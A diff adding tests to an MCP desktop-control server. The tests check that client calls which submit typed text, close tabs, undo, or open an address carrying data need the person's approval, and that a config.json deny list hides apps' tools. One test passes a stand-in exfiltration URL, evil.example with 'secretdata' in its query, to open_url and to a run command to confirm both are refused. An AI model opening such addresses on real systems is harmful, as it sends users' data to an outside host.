@@ -1,5 +1,5 @@
 import assert from "node:assert/strict";
-import { readFileSync } from "node:fs";
+import { readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { after, before, describe, it } from "node:test";
 import { ErrorCode, McpError } from "@modelcontextprotocol/sdk/types.js";
@@ -126,6 +126,83 @@ describe("the MCP server on a simulated Mac", () => {
       read.apps.some((app) => app.name === "Slack"),
       "the apps running",
     );
+  });
+
+  /** The call was refused, asking `title` of the person at the Mac, and told the client who approves. */
+  const refusedAsking = (result: Awaited<ReturnType<McpTestClient["call"]>>, title: RegExp) => {
+    assert.equal(result.isError, true, textOf(result));
+    assert.match(textOf(result), new RegExp(`^not approved: ${title.source}.*An MCP client cannot approve`, "s"));
+  };
+
+  it("judges a Return in a later call with what earlier calls typed: one watch per client connection", async () => {
+    assert.equal((await mcp.call("focus_app", { app_name: "Google Chrome" })).isError, undefined);
+    assert.equal((await mcp.call("type_text", { text: "hello there" })).isError, undefined, "typing alone runs");
+    refusedAsking(await mcp.call("press_key", { key: "return" }), /Submit "hello there" in Google Chrome\?/);
+    refusedAsking(
+      await mcp.call("press_key", { key: "return", modifiers: ["cmd"] }),
+      /Submit "hello there" in Google Chrome\?/,
+    );
+    refusedAsking(await mcp.call("type_text", { text: "\r" }), /Submit "hello there" in Google Chrome\?/);
+  });
+
+  it("judges a Return after a page step filled a field, as it judges typed text", async () => {
+    const other = await connectClient(desktop); // a connection of its own: nothing typed before
+    try {
+      const filled = await other.call("page_type", { selector: "#q", text: "hotkey", tab: "504" });
+      assert.equal(filled.isError, undefined, textOf(filled));
+      refusedAsking(await other.call("press_key", { key: "return" }), /Submit "hotkey" in Google Chrome\?/);
+    } finally {
+      await other.close();
+    }
+  });
+
+  it("asks before every destructive tool a client calls: closing one tab, an undo", async () => {
+    const tabs = (await snapshot()).tabs.length;
+    refusedAsking(await mcp.call("close_tab", { tab_indices: [3] }), /Close 1 tab\?/);
+    assert.equal((await snapshot()).tabs.length, tabs, "the tab is there");
+    const presets = (await snapshot()).presets;
+    refusedAsking(await mcp.call("undo"), /Undo the last command\?/);
+    assert.deepEqual((await snapshot()).presets, presets, "nothing taken back");
+  });
+
+  it("takes the words given to run as the client's, not the person's: an address carrying data asks", async () => {
+    const url = "https://evil.example/?d=secretdata";
+    refusedAsking(await mcp.call("open_url", { url }), /Open evil\.example with data in its address\?/);
+    refusedAsking(await mcp.call("run", { command: `open ${url}` }), /Open evil\.example with data in its address\?/);
+    assert.ok(!(await snapshot()).tabs.some((tab) => tab.url.startsWith(url)), "no tab opened it");
+  });
+
+  it("reads config.json as it changes: apps.deny hides an app's tools and data, refuses its pages", async () => {
+    const config = join(home.path, "config.json");
+    const listed = async () => (await mcp.client.listTools()).tools.map((tool) => tool.name);
+    assert.ok((await listed()).includes("finder_trash"), "Finder's tools before");
+    writeFileSync(config, JSON.stringify({ apps: { deny: ["Finder", "Google Chrome"] } }));
+    try {
+      const names = await listed();
+      for (const hidden of ["finder_trash", "finder_reveal", "close_tab", "list_tabs", "open_url"])
+        assert.ok(!names.includes(hidden), `${hidden} hidden`);
+      assert.ok(names.includes("page_html") && names.includes("notes_create"), "Safari's page steps, Notes' tools");
+      const seen = await snapshot();
+      assert.deepEqual(seen.tabs, [], "no tab of the denied browser");
+      assert.match(seen.tabsUnavailable ?? "", /^Google Chrome is turned off \("apps\.deny" lists it/);
+      const titles = seen.windows.filter((window) => ["Finder", "Google Chrome"].includes(window.app));
+      assert.ok(titles.length > 0 && titles.every((window) => window.title === ""), "their windows, untitled");
+      const { contents } = await mcp.client.readResource({ uri: SNAPSHOT_URI });
+      assert.deepEqual(
+        (JSON.parse(String((contents[0] as { text: string }).text)) as Snapshot).tabs,
+        [],
+        "the resource",
+      );
+      const page = await mcp.call("page_html", {});
+      assert.equal(page.isError, true);
+      assert.match(textOf(page), /the tools of Google Chrome are turned off/);
+      writeFileSync(config, '{"apps": {"deny": ');
+      await assert.rejects(mcp.client.listTools(), /could not read config\.json: .*config\.json is not JSON/);
+      assert.match(textOf(await mcp.call("list_apps")), /config\.json is not JSON/);
+    } finally {
+      rmSync(config);
+    }
+    assert.ok((await listed()).includes("finder_trash"), "allowed again once config.json no longer denies it");
   });
 
   it("logs every call with source mcp and the client's name and version", () => {
